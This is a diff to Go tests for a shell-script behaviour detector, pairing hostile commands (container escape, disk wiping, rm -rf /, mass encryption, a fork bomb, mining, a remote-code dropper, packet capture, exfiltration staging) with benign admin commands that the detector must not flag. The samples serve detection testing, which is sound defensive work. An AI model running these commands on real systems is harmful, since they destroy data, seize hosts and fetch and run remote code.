@@ -98,7 +98,7 @@ func TestBehaviours(t *testing.T) {
 		{"nsenter --target 1 --mount sh", &hostEntered},
 		{"curl --unix-socket /var/run/docker.sock http://x/containers/json", &containerControl},
 		{"echo /tmp/k > /proc/sys/kernel/core_pattern", &kernelHelperSet},
-		{"for f in 1 2 3 4 5 6 7 8 9 10; do openssl enc -aes-256-cbc -k x -in a -out a.enc; done; " + repeated("gpg --batch --passphrase x -c /srv/a; ", 10), &massEncrypted},
+		{"openssl enc -aes-256-cbc -k x -in a -out a.enc; ccrypt -K x /srv/a1 /srv/b /srv/c; gpg --batch --passphrase x -c /srv/d; zip -P x z /srv/e; 7z a -px z.7z /srv/f /srv/g; gpg --batch --passphrase-file p -c h; age -r k -o i.age i", &massEncrypted},
 		{"dd if=/dev/urandom of=/dev/sda bs=1M", &diskWiped},
 		{"rm -rf --no-preserve-root /", &wiped},
 		{"systemctl stop mysql; systemctl stop nginx; systemctl stop redis", &servicesStopped},
@@ -107,18 +107,20 @@ func TestBehaviours(t *testing.T) {
 		{"./x -o stratum+tcp://pool.example:3333", &mining},
 		{":(){ :|:& };:", &burned},
 		{"python3 /tmp/holiday.jpg", &dataRun},
+		{"getent passwd > /dev/shm/u", &accountsKept},
+		{"awk -F: '{print $1}' /etc/passwd >> /var/tmp/n", &accountsKept},
+		{"echo 'cd /opt' > /tmp/q; echo './run' >> /tmp/q; sh /tmp/q", &typedTemp},
+		{"printf 'import os' > ~/n; printf 'from urllib import request as r' >> ~/n; printf 'os.popen(r.urlopen(X).read())' >> ~/n; python3 ~/n", &typedDropper},
+		{"tshark -i eth0; tcpdump -ni eth0", &captureTried},
+		{"split -n 20 /dev/shm/all.tgz /dev/shm/p", &partsStaged},
+		{"if true; then /sbin/poweroff -f; fi", &stoppedByScript},
+		{"shutdown -P now", &stoppedByScript},
+		{"wget -qO- http://ip-api.com/json", &placeAsked},
 	} {
 		if got := raised(c.script, true); got[c.want.Type] != c.want.Severity {
 			t.Errorf("%s\nraises %v, not %s", c.script, got, c.want.Type)
 		}
 	}
-}
-
-func repeated(s string, n int) (out string) {
-	for range n {
-		out += s
-	}
-	return out
 }
 
 // TestBehaviours_Benign: what administrators and developers do all day raises nothing of medium severity.
@@ -147,6 +149,14 @@ func TestBehaviours_Benign(t *testing.T) {
 		"python3 -m venv .venv; .venv/bin/pip install requests; .venv/bin/python -c 'import socket; print(socket.gethostname())'",
 		"timeout 5 bash -c '</dev/tcp/db.example/5432' && echo up; nc -zv db 5432",
 		"rsync -a /srv/ backup:/srv/; gzip -9 access.log.1; truncate -s 0 app.log; echo > /dev/null",
+		"getent passwd | cut -d: -f1 > users.txt; T=$(mktemp); getent group > $T; diff $T groups.txt; last > /root/signins",
+		"echo '[Unit]' > app.conf; echo 'x=1' >> app.conf; cat app.conf; echo 'echo hi' > run.sh; sh run.sh; T=$(mktemp); echo id > $T; echo date >> $T; sh $T",
+		"cat > fetch.py <<'X'\nimport requests, subprocess\nsubprocess.run(['ls'])\nX\npython3 fetch.py",
+		"cd /var/backups; tar czf etc.tgz /etc/nginx; gpg --batch --passphrase-file /root/.p -o etc.tgz.gpg -c etc.tgz; openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.p -in db.sql -out db.enc; if true; then cp -p /etc/passwd /etc/shadow /var/backups/daily/; fi",
+		"T=conf$$; echo '#!/bin/sh' > conf42.file; chmod +x conf42.file; ./conf42.file; rm -f conf42 conf42.file; truncate -s 0 app.log",
+		"mkdir -p \"` echo /srv/ops/.ansible/tmp `\" && mkdir \"` echo /srv/ops/.ansible/tmp/t-1 `\"; for i in 1; do chmod u+rwx /srv/ops/.ansible/tmp/t-1/ /srv/ops/.ansible/tmp/t-2/; rm -f -r /srv/ops/.ansible/tmp/t-1/; done",
+		"scp build@ci.example:run.sh .; chmod +x run.sh; ./run.sh; rm run.sh; id -u; id -un; uptime; df -h; free -m; ps aux; ss -tln",
+		"tcpdump -c 100 -ni eth0 port 53; split -b 100M /srv/backup/all.tgz /srv/backup/all.tgz.part; shutdown -r +10 'patches'; curl -s ifconfig.me; curl -s https://ipinfo.io/ip",
 	} {
 		for kind, s := range raised(script, true) {
 			if s >= Medium {
